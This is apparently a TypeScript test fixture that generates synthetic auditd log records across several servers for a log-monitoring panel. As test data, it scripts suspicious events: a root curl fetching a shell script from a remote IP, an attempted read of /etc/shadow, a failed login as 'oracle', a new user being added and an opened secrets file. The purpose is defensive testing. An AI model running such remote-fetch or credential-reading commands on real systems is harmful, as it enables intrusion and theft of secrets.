import * as scene from '../lab/records';
import type { TestLog } from './panelKit';

export const anna: scene.Account = [1000, 'anna'];
export const boris: scene.Account = [1001, 'boris'];
const root: scene.Account = [0, 'root'];
export const by = (login: scene.Account, as = login): scene.Doing => ({ login, as, session: 3, pid: 88_121 });

/** Puts the node's name before each record. */
export const from = (node: string, records: readonly string[]) =>
  records.map((record) => `node=${node} ${record}\n`).join('');

/** One event of one record, short and quick to make; each of the three nodes counts its own serials. */
export const small = (number: number, time = 1_700_000_000_000 + number) =>
  `node=web${number % 3} type=USER_LOGIN msg=audit(${(time / 1000).toFixed(3)}:${Math.floor(number / 3) + 1}): pid=7 uid=0 auid=1000 ses=1 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=${number % 7 === 0 ? 'failed' : 'success'}'\n`;

export function smalls(first: number, end: number): string {
  let text = '';
  for (let serial = first; serial < end; serial++) text += small(serial);
  return text;
}

/** A morning's picture: several nodes, something refused, something missing, something open. */
export function picture(log: TestLog): void {
  const now = Date.now() - 600_000;
  const serials: Record<string, number> = { web1: 100, db1: 55_000, web2: 88_000, jump: 10 };
  const write = (node: string, second: number, records: (stamp: scene.Stamp) => string[]) => {
    const serial = (serials[node] = (serials[node] ?? 0) + 1);
    log.write(from(node, records({ time: now + second * 1000 + ((second * 77) % 1000), serial })));
  };
  for (let second = 0; second < 560; second += 1 + (second % 3)) {
    const node = ['web1', 'db1', 'web2', 'jump'][second % 4] ?? 'web1';
    const many = second > 350 && second < 420 ? 5 : 1 + (second % 2);
    for (let n = 0; n < many; n++) {
      write(node, second, (at) => scene.programStarted(at, by(anna), ['/usr/bin/ls', '-la', '/srv/www'], 'exec'));
    }
  }
  const fetch = ['/usr/bin/curl', '-s', 'http://198.51.100.7/x.sh'] as const;
  write('web1', 570, (at) => scene.programStarted(at, by(anna, root), [...fetch], 'commands'));
  write('web1', 571, (at) => scene.connected(at, by(anna, root), ['/usr/bin/curl'], '198.51.100.7', 80, 'network'));
  const shadow = '/etc/shadow';
  write('db1', 572, (at) => scene.fileOpened(at, by(boris), ['/usr/bin/cat', shadow], shadow, -13, 'identity'));
  write('web2', 573, (at) => scene.sudoRan(at, by(anna), 'systemctl restart nginx'));
  serials['web2'] = 88_312;
  write('web2', 574, (at) => scene.serviceStarted(at, 'nginx'));
  write('jump', 577, (at) => scene.loggedIn(at, 2210, anna, '203.0.113.9', 'success'));
  write('jump', 578, (at) => scene.loggedIn(at, 2211, [0, 'oracle'], '203.0.113.9', 'failed'));
  write('web2', 580, (at) => scene.userAdded(at, by(anna, root), 'clara'));
  const secrets = '/srv/app/conf/secrets.env';
  write('web2', 590, (at) =>
    scene.fileOpened(at, by(boris), ['/usr/bin/vi', secrets], secrets, 3, 'perm-change').slice(0, 3),
  );
}
